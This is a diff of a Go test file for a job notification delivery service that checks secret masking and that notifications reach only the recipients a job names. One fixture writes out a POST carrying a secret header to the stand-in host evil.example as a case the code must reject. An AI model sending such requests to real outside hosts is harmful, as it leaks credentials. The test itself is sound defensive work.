@@ -43,7 +43,7 @@ func TestNoCallCarriesASecretElsewhere(t *testing.T) {
 	}
 }
 
-// Whoever is asked may say what it was asked with, as it writes texts. What is kept of an answer has no secret in it.
+// A service may repeat secrets of its request, in its own encoding. A stored answer has no secret in it.
 func TestAnswersAreMaskedHoweverTheyAreWritten(t *testing.T) {
 	for _, c := range []struct{ secret, answer, want string }{
 		{"ab/cd==", `{"key":"ab/cd=="}`, `{"key":"***"}`},
@@ -73,11 +73,11 @@ func (rows) Definition(_ context.Context, _ jobs.Tenant, key jobs.Key) (*kernel.
 	if key != "work" {
 		return nil, kernel.Refuse(jobs.NotFound, "there is no job %s", key)
 	}
-	return &kernel.Definition{Key: key, Policy: kernel.Policy{HTTP: []byte(`{"request":[{"url":"http://127.0.0.1:2/x"}],"notification":[{"method":"POST","url":"http://127.0.0.1:2/told","stateEquals":"200"}]}`)}}, nil
+	return &kernel.Definition{Key: key, Policy: kernel.Policy{HTTP: []byte(`{"request":[{"url":"http://127.0.0.1:2/x"}],"notification":[{"method":"POST","url":"http://127.0.0.1:2/noted","stateEquals":"200"}]}`)}}, nil
 }
 
-// A worker that has a run may tell what it likes of it, but only to those whom the job names: not with the secrets of
-// whoever delivers, and not elsewhere.
+// A worker chooses what a notification of its run contains, but only the job chooses its recipients: no secrets of the
+// delivering worker, and no other address.
 func TestNotificationsThatNoJobHas(t *testing.T) {
 	r, err := New(rows{}, Config{Guard: Guard{Allow: prefixes("127.0.0.1/32")}, Breaker: Breaker{Off: true}, Secrets: httpspec.Secrets{"KEY": {Value: "s3cret", Hosts: []string{"127.0.0.1", "evil.example"}}}})
 	if err != nil {
@@ -85,21 +85,21 @@ func TestNotificationsThatNoJobHas(t *testing.T) {
 	}
 	for what, call := range map[string]string{
 		"another host":       `{"method":"POST","url":"http://evil.example/","headers":{"X":"${secret:KEY}"}}`,
-		"another header":     `{"method":"POST","url":"http://127.0.0.1:2/told","headers":{"X":"${secret:KEY}"}}`,
+		"another header":     `{"method":"POST","url":"http://127.0.0.1:2/noted","headers":{"X":"${secret:KEY}"}}`,
 		"another path":       `{"method":"POST","url":"http://127.0.0.1:2/else"}`,
 		"nothing":            `{}`,
 		"no call":            `"x"`,
 		"of a job's request": `{"url":"http://127.0.0.1:2/x"}`,
 	} {
-		for _, of := range []jobs.Key{"work", "nobody", kernel.NotifyKey(App)} {
+		for _, of := range []jobs.Key{"work", "unknown", kernel.NotifyKey(App)} {
 			err := r.deliver(t.Context(), notification{Job: of, Body: note{State: "200", Call: []byte(call), Notice: []byte(`{}`)}})
 			if err == nil || !outcome.IsFinal(err) || outcome.CodeOf(err) != "" {
 				t.Errorf("%s, of %s: %v", what, of, err)
 			}
 		}
 	}
-	// What the job says is called: nobody listens there.
-	err = r.deliver(t.Context(), notification{Job: "work", Body: note{State: "200", Call: []byte(`{"method":"POST","url":"http://127.0.0.1:2/told"}`), Notice: []byte(`{}`)}})
+	// The call of the job is made: nothing listens there.
+	err = r.deliver(t.Context(), notification{Job: "work", Body: note{State: "200", Call: []byte(`{"method":"POST","url":"http://127.0.0.1:2/noted"}`), Notice: []byte(`{}`)}})
 	if outcome.CodeOf(err) != codeUndelivered {
 		t.Errorf("what the job says: %v", err)
 	}
